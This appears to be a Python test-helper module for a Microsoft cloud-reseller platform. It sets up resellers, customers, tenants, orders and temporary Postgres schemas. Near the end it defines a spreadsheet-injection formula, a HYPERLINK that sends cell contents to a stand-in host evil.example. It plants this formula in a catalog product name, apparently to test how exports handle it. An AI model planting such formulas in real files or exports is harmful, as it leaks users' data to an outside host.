"""Test helpers: build a reseller, its customer, a ready tenant and orders through the commands."""

from __future__ import annotations

import contextlib
import os
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from uuid import UUID

from csp.aggregates.agreement import latest_agreement_version
from csp.aggregates.catalog import Eligibility
from csp.aggregates.order import Order
from csp.aggregates.organization import Address, Organization, OrganizationProfile
from csp.aggregates.subscription import Subscription
from csp.aggregates.tenant import Tenant
from csp.application import CspApplication, NewLineRequest
from csp.application.catalog import offer_id_for
from csp.application.sealing import SecretBox, new_key, parse_key
from csp.clock import SettableClock

ACTOR = "user:00000000-0000-4000-8000-000000000001"
BUSINESS_PREMIUM = offer_id_for("CFQ7TTC0LCHC:0002")
BUSINESS_PREMIUM_TRIAL = offer_id_for("CFQ7TTC0LCHC:0005")
BUSINESS_BASIC = offer_id_for("CFQ7TTC0LH18:0001")
TEAMS_PHONE = offer_id_for("CFQ7TTC0LHXM:0001")
EXCHANGE_ARCHIVING = offer_id_for("CFQ7TTC0LHSF:0001")
E5_SECURITY = offer_id_for("CFQ7TTC0LFLZ:0010")
M365_E3 = offer_id_for("CFQ7TTC0LFLZ:0002")
O365_E3 = offer_id_for("CFQ7TTC0LF8R:0001")
A3_FACULTY = offer_id_for("CFQ7TTC0LH0Z:0001")
AZURE_PLAN = offer_id_for("DZH318Z0BPS6:0001")

DEFAULT_TEST_POSTGRES_URL = "postgresql://root@127.0.0.1:5432/csp_test"


def profile(name: str = "CSP Platform Test", industry: str = "it_services", **eligibility: bool) -> OrganizationProfile:
    return OrganizationProfile(
        name=name,
        country="RO",
        address=Address(line1="Str. Fabricii 46", city="Bucharest", postal_code="060822"),
        contact_email="office@example.ro",
        contact_phone="+40 21 555 0100",
        industry=industry,  # type: ignore[arg-type]
        eligibility=Eligibility(**eligibility),
    )


@dataclass
class World:
    """A reseller with one customer and a created tenant, ready to order."""

    app: CspApplication
    clock: SettableClock
    reseller: Organization
    customer: Organization
    tenant: Tenant

    def order_with_line(
        self,
        offer_id: UUID = BUSINESS_PREMIUM,
        quantity: int | None = 1,
        billing_cycle: str = "monthly",
        term: str = "annual",
        markup_percent: Decimal | None = Decimal(5),
        **kw: object,
    ) -> Order:
        order = self.app.create_order(self.customer.id, actor=ACTOR)
        return self.app.add_new_subscription_line(
            order.id,
            NewLineRequest(offer_id, self.tenant.id, quantity, billing_cycle, term, markup_percent, **kw),  # type: ignore[arg-type]
            actor=ACTOR,
        )

    def provision(self, order: Order) -> Order:
        """Run the provisioning steps the saga would run, with made-up vendor ids."""
        self.app.start_provisioning(order.id)
        for line in order.lines:
            self.app.provision_line(order.id, line.line_no, f"vendor-order-{order.id}-{line.line_no}")
        return self.app.finish_provisioning(order.id)

    def buy(self, quantity: int = 1, offer_id: UUID = BUSINESS_PREMIUM, **kw: object) -> Subscription:
        """Order, place and provision one subscription; returns it."""
        order = self.order_with_line(offer_id=offer_id, quantity=quantity, **kw)  # type: ignore[arg-type]
        self.app.place_order(order.id, accept_terms=True, actor=ACTOR)
        order = self.provision(order)
        return self.app.load(Subscription, order.subscription_ids[0], "subscription")

    def sub(self, subscription_id: UUID) -> Subscription:
        return self.app.load(Subscription, subscription_id, "subscription")


def make_world(app: CspApplication, clock: SettableClock, domain: str | None = None, **eligibility: bool) -> World:
    app.ensure_catalog()
    reseller = app.register_reseller(profile(), actor=ACTOR)
    industry = (
        "education" if eligibility.get("academic") else "government" if eligibility.get("government") else "retail"
    )
    customer = app.register_customer(reseller.id, profile("Contoso SRL", industry, **eligibility), actor=ACTOR)
    record_agreement(app, customer.id)
    domain = domain or f"t{uuid.uuid4().hex[:12]}"
    tenant = app.request_tenant(customer.id, domain, "create", actor=ACTOR)
    app.start_tenant_verification(tenant.id)
    tenant = app.record_tenant_created(tenant.id, f"vendor-customer-{tenant.id}", f"admin@{tenant.domain}")
    return World(app, clock, reseller, customer, tenant)


def record_agreement(app: CspApplication, organization_id: UUID) -> None:
    """The customer's Microsoft Customer Agreement acceptance, needed before its first order."""
    app.record_agreement(
        organization_id, "Ana", "Popescu", "ana.popescu@example.ro", "+40 21 555 0101", app.now(), AGREEMENT, ACTOR
    )


AGREEMENT = latest_agreement_version()


def memory_app(clock: SettableClock) -> CspApplication:
    secrets = SecretBox(parse_key(new_key()))
    return CspApplication(env={"PERSISTENCE_MODULE": "eventsourcing.popo"}, clock=clock, secrets=secrets)


def postgres_url() -> str:
    return os.environ.get("CSP_TEST_POSTGRES_URL", DEFAULT_TEST_POSTGRES_URL)


@contextmanager
def postgres_schema(url: str) -> Iterator[str]:
    """A fresh schema in the test database (created if missing), dropped afterwards."""
    import psycopg

    from csp.persistence import parse_database_url

    db = parse_database_url(url)
    admin = {"host": db.host, "port": db.port, "user": db.user or None, "password": db.password or None}
    with psycopg.connect(dbname="postgres", autocommit=True, connect_timeout=3, **admin) as conn:  # type: ignore[arg-type]
        exists = conn.execute("SELECT 1 FROM pg_database WHERE datname = %s", (db.dbname,)).fetchone()
        if not exists:
            with contextlib.suppress(psycopg.errors.DuplicateDatabase, psycopg.errors.UniqueViolation):
                conn.execute(f'CREATE DATABASE "{db.dbname}"')  # another test process may win the race
    schema = f"t_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(dbname=db.dbname, autocommit=True, **admin) as conn:  # type: ignore[arg-type]
        conn.execute(f'CREATE SCHEMA "{schema}"')
    try:
        yield schema
    finally:
        with psycopg.connect(dbname=db.dbname, autocommit=True, **admin) as conn:  # type: ignore[arg-type]
            conn.execute(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def catalog_with_formula_name(folder: Path) -> Path:
    """The bundled catalog, with Business Premium renamed to a spreadsheet formula (a
    catalog's names come from outside: the vendor's file)."""
    from importlib import resources

    text = resources.files("csp.data").joinpath("catalog.toml").read_text(encoding="utf-8")
    poisoned = text.replace('name = "Microsoft 365 Business Premium"\n', f"name = '{FORMULA}'\n", 1)  # a literal string
    assert poisoned != text
    path = folder / "catalog.toml"
    path.write_text(poisoned, encoding="utf-8")
    return path
